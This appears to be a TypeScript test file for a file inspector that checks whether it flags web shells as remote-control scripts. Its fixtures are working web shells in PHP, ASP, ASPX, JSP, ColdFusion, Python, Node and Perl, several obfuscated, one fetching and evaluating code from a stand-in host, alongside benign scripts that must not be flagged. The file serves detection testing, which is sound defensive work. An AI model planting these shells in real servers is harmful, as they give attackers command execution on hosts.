import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { deflateRawSync } from 'node:zlib'
import { assertCheap } from '#inspect/testing/cpu-time.ts'
import { useInspector } from '#inspect/testing/inspector.ts'

const { inspect } = useInspector()
const found = (source: string, name: string): string | undefined =>
  inspect(Buffer.from(source), { name }).findings.find(({ severity }) => severity !== 'notice')?.id
const packed = (code: string): string => deflateRawSync(Buffer.from(code)).toString('base64')

const SHELLS: Record<string, Record<string, string>> = {
  php: {
    directly: '<?php @eval($_POST["c"]);',
    'through a variable': '<?php $c = $_GET["c"] ?? ""; echo "<pre>" . shell_exec($c . " 2>&1") . "</pre>";',
    decoded: '<?php $d = base64_decode($_POST["d"]); exec($d, $o); echo implode("\\n", $o);',
    'by a name in pieces': '<?php $f = "as"."sert"; @$f($_REQUEST["x"]);',
    'by a decoded name': '<?php $s = str_rot13("flfgrz"); $s($_COOKIE["a"]);',
    'by a name that is sent': '<?php $f = $_GET["f"]; $f($_GET["a"]);',
    'by a function that calls others': '<?php array_map("ass\\x65rt", (array)$_POST["q"]);',
    'by a function of the script':
      '<?php function go($in) { return proc_open($in, [], $p); } $b = json_decode(file_get_contents("php://input"), true); go($b["c"]);',
    'by an object':
      '<?php class C { function __invoke($p) { eval($p . ""); } } $a = explode("|", file_get_contents("php://input")); call_user_func(new C(), $a[1]);',
    'in a loop': '<?php foreach ($_COOKIE as $k => $v) { $d = unserialize(base64_decode($v)); eval($d["x"]); }',
    'as a file of code': '<?php $c = $_REQUEST["c"]; file_put_contents($t, "<?php " . $c); include $t;',
    'with all variables': '<?php extract($_POST); $fn($arg);',
    'in coded code': `<?php eval(gzinflate(base64_decode("${packed('if (isset($_POST["cmd"])) { system($_POST["cmd"]); } else { echo "nothing"; }')}")));`,
    'from another server': '<?php $ch = curl_init("https://a.example/x"); $r = curl_exec($ch); eval("?>" . $r);',
  },
  asp: {
    directly: '<%eval request("c")%>',
    'as a command': '<% Set s = CreateObject("WScript.Shell")\nSet e = s.Exec("cmd /c " & Request.QueryString("c")) %>',
  },
  aspx: {
    'as a command':
      '<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]); %>',
    'as a program in memory':
      '<%@ Page Language="C#" %><% byte[] c = Request.BinaryRead(9); System.Reflection.Assembly.Load(d.TransformFinalBlock(c, 0, 9)); %>',
  },
  jsp: {
    'as a command': '<% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>',
    'with a shell': '<% new ProcessBuilder(new String[]{"/bin/sh","-c",request.getParameter("i")}).start(); %>',
    'as a class':
      '<%!class U extends ClassLoader{public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><% new U().g(c.doFinal(request.getReader().readLine())); %>',
  },
  cfm: {
    'as a command': '<cfif isDefined("form.c")><cfexecute name="cmd.exe" arguments="/c #form.c#"></cfexecute></cfif>',
  },
  py: {
    'as a command':
      'from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route("/h")\ndef h():\n    c = request.args.get("c")\n    return subprocess.check_output(c, shell=True)\n',
  },
  js: {
    'as a command':
      'const http = require("http"), { exec } = require("child_process"), url = require("url");\nhttp.createServer((req, res) => { const q = url.parse(req.url, true).query; exec(q.c, (e, so) => res.end(so)); }).listen(80);',
  },
  pl: { 'as a command': '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nprint `$c 2>&1`;\n' },
}

for (const [kind, shells] of Object.entries(SHELLS))
  suite(`a script of a server in ${kind} that runs what a visitor sends`, () => {
    for (const [way, source] of Object.entries(shells))
      test(way, () => assert.equal(found(source, `page.${kind}`), 'Docvet.Script.RemoteControl'))
  })

suite('a script of a server that only reads what a visitor sends', () => {
  const scripts: Record<string, string> = {
    'a.php':
      '<?php $t = htmlspecialchars($_GET["q"]); $s = $pdo->prepare("SELECT * FROM a WHERE t = ?"); $s->execute([$t]);',
    'picture.php':
      '<?php exec("convert " . escapeshellarg($_FILES["p"]["tmp_name"]) . " -resize " . (int) $_POST["w"] . " a.png");',
    'router.php': '<?php $h = $this->routes[$_SERVER["REQUEST_URI"]]; echo call_user_func($h, $_GET, $_POST);',
    'export.php':
      '<?php $f = "export_" . sanitize_key($_POST["format"]); if (in_array($f, ["export_csv"], true)) { $f($_POST["c"]); }',
    'template.php':
      '<?php function render($t, $d) { extract($d); eval("?>" . $t); } render(file_get_contents("a.tpl"), ["q" => $_GET["q"]]);',
    'a.asp': '<% Set r = conn.Execute("SELECT * FROM a WHERE i = " & CLng(Request.QueryString("i"))) %>',
    'a.jsp':
      '<% Process p = Runtime.getRuntime().exec(new String[]{"uptime"}); out.print(request.getParameter("q")); %>',
    'a.py':
      'from flask import request\nimport subprocess\ndef v():\n    u = request.args["u"]\n    return subprocess.check_output(["git", "log", u])\n',
    'a.js':
      'const app = require("express")(); const { execFile, spawn } = require("child_process");\napp.get("/t", (req, res) => { const s = Number(req.query.s); spawn("convert", ["a.png", "-resize", String(s)]); });',
  }
  for (const [name, source] of Object.entries(scripts)) test(name, () => assert.equal(found(source, name), undefined))
})

test('hostile scripts of servers cost no more than others of their length', () => {
  const repeated = (text: string): string => `<?php ${text.repeat(Math.ceil(100_000 / text.length))}`
  for (const text of [
    '$a=$b;',
    'eval($a.',
    'function f($a){eval($a);}',
    '$a(',
    'foreach ($a as $b)',
    '$a=$_GET["a"];',
    '((((',
    'eval(a(b(',
  ])
    assertCheap(() => inspect(Buffer.from(repeated(text)), { name: 'a.php' }), text)
})
